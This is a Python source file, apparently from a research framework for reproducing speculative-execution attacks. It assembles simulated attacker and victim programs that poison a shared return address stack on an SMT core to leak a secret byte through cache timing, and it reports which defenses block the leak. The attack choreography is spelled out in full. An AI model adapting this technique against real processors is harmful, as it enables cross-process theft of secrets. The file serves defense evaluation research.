"""Cross-context RAS poisoning on an SMT core (``sharing="smt"``).

The return address stack is shared and pushed/popped at *fetch*, so one
context's calls land on top of the stack the other context's next RET
will pop.  The attacker pushes the PC of a disclosure gadget that exists
only in the victim's address space; the victim's return is then predicted
into the gadget, which transiently reads the victim's secret and
transmits it through the shared d-cache before the mispredicted return
resolves and squashes.

Choreography (ret2spec across hardware contexts):

1. The victim enters a function, parks its real return address in a
   *flushed* memory slot, and signals ``IN_FUNC``.
2. The attacker primes the probe lines, then executes eight ``call``s
   whose fetch PC is ``GADGET_PC - 1`` — each push deposits ``GADGET_PC``
   on the shared RAS — waits out a DRAM round trip so the last push is
   safely below the victim's in-flight speculation, and sets
   ``POISONED``.
3. The victim reloads its return address from the flushed slot (a DRAM
   round trip) and returns.  The RET pops ``GADGET_PC``, the wrong path
   runs the gadget for the full miss latency, and the probe line for the
   secret byte is filled in the shared cache before the squash.
4. The attacker times the probe lines.

Blocked by every NDA policy (the gadget's secret load is deferred under
the unresolved return), by InvisiSpec (the transmit fill is invisible),
and by fence-on-branch; leaks under the unprotected baseline.
"""

from __future__ import annotations

from typing import List, Optional, Tuple

from repro.attacks.common import (
    CACHE_LEAK_MARGIN,
    PROBE_BASE,
    PROBE_STRIDE,
    AttackOutcome,
    default_guesses,
    emit_cache_recover,
    emit_probe_flush,
    emit_set_flag,
    emit_spin_nonzero,
    pad_to,
    read_timings,
    run_cross_attack,
    victim_map,
)
from repro.config import SimConfig
from repro.errors import ConfigError
from repro.isa.assembler import Assembler
from repro.isa.program import Program
from repro.isa.registers import LR, R15, R16, R20, R21, R22, R24

SHARING = "smt"

_MAP = victim_map("cross_ras")
ARRAY_BASE = _MAP["array"]
SECRET_ADDR = ARRAY_BASE  # no bounds-check here; the gadget reads directly
LR_SAVE_ADDR = _MAP["scratch"]  # victim return address, flushed (slow ret)
DELAY_ADDR = _MAP["scratch"] + 128  # attacker settle delay, flushed
IN_FUNC_FLAG = _MAP["flags"] + 0  # victim -> attacker: RET is pending
POISONED_FLAG = _MAP["flags"] + 8  # attacker -> victim: RAS is loaded
DONE_FLAG = _MAP["flags"] + 16  # victim -> attacker: transmit attempted

# The disclosure gadget sits at this PC in the *victim's* address space;
# the attacker's call instruction sits at GADGET_PC - 1 in its own space,
# so every push (pc + 1, taken at fetch) deposits GADGET_PC.
GADGET_PC = 64
N_PUSHES = 8  # RAS holds 16; victim uses one entry, we stack eight


def build_programs(
    secret: int = 42, guesses: Optional[List[int]] = None
) -> Tuple[Program, Program]:
    """Assemble the (attacker, victim) pair."""
    guesses = guesses if guesses is not None else default_guesses(secret)

    # Attacker (context 0).  The push loop sits at a fixed PC behind a
    # jump, so the call site stays at GADGET_PC - 1 however long the
    # guess-dependent probe-flush prologue in ``main`` grows.
    atk = Assembler("cross_ras_attacker")
    atk.jmp("main")
    pad_to(atk, GADGET_PC - 1)
    atk.label("push_loop")
    atk.call("sink")  # fetch pushes pc + 1 == GADGET_PC onto the shared RAS
    atk.label("sink")
    atk.addi(R15, R15, 1)
    atk.blt(R15, R16, "push_loop")
    # A DRAM round trip between the last push and the POISONED store: the
    # victim may have spin iterations in flight that predate the pushes,
    # and the flag must not outrun them.
    atk.li(R20, DELAY_ADDR)
    atk.load(R21, R20, 0)
    atk.fence()
    emit_set_flag(atk, POISONED_FLAG)
    emit_spin_nonzero(atk, DONE_FLAG)
    emit_cache_recover(atk, guesses)
    atk.halt()

    atk.label("main")
    emit_spin_nonzero(atk, IN_FUNC_FLAG)
    emit_probe_flush(atk, guesses)
    atk.li(R20, DELAY_ADDR)
    atk.clflush(R20, 0)
    atk.fence()
    atk.li(R15, 0)
    atk.li(R16, N_PUSHES)
    atk.jmp("push_loop")

    # Victim (context 1).
    vic = Assembler("cross_ras_victim")
    vic.data(SECRET_ADDR, bytes([secret]))

    vic.jmp("main")
    vic.label("victim_fn")
    vic.li(R24, LR_SAVE_ADDR)
    vic.store(LR, R24, 0)  # park the return address...
    vic.fence()
    vic.clflush(R24, 0)  # ...and flush it: the RET resolves a DRAM later
    vic.fence()
    emit_set_flag(vic, IN_FUNC_FLAG)
    emit_spin_nonzero(vic, POISONED_FLAG)
    vic.load(LR, R24, 0)
    vic.ret()  # predicted from the shared RAS: straight into the gadget
    # The disclosure gadget: reachable only through the poisoned RAS.
    pad_to(vic, GADGET_PC)
    vic.li(R20, SECRET_ADDR)
    vic.loadb(R21, R20, 0)  # access: the (cache-warm) secret
    vic.li(R22, PROBE_STRIDE)
    vic.mul(R21, R21, R22)
    vic.li(R22, PROBE_BASE)
    vic.add(R21, R21, R22)
    vic.load(R21, R21, 0)  # transmit: fills the shared d-cache
    vic.label("gadget_spin")
    vic.jmp("gadget_spin")  # wrong-path only; squashed with the RET

    vic.label("main")
    vic.li(R20, SECRET_ADDR)
    vic.loadb(R21, R20, 0)  # the victim touched its secret recently
    vic.call("victim_fn")
    vic.fence()
    emit_set_flag(vic, DONE_FLAG)
    vic.halt()

    return atk.build(), vic.build()


def run(
    config: SimConfig,
    secret: int = 42,
    guesses: Optional[List[int]] = None,
    in_order: bool = False,
    fast_forward: bool = True,
) -> AttackOutcome:
    """Run the attack pair on *config*; report whether the secret leaked."""
    if in_order:
        raise ConfigError(
            "cross-context attacks run on co-resident OoO contexts; the "
            "in-order core has no multi-context mode"
        )
    guesses = guesses if guesses is not None else default_guesses(secret)
    programs = build_programs(secret, guesses)
    _, outcomes = run_cross_attack(
        programs, config, SHARING, fast_forward=fast_forward
    )
    return AttackOutcome(
        attack="cross_ras",
        channel="cross-ras",
        config_label=outcomes[0].label,
        secret=secret,
        timings=read_timings(outcomes[0], guesses),
        guesses=guesses,
        margin_required=CACHE_LEAK_MARGIN,
        outcome=outcomes[0],
    )
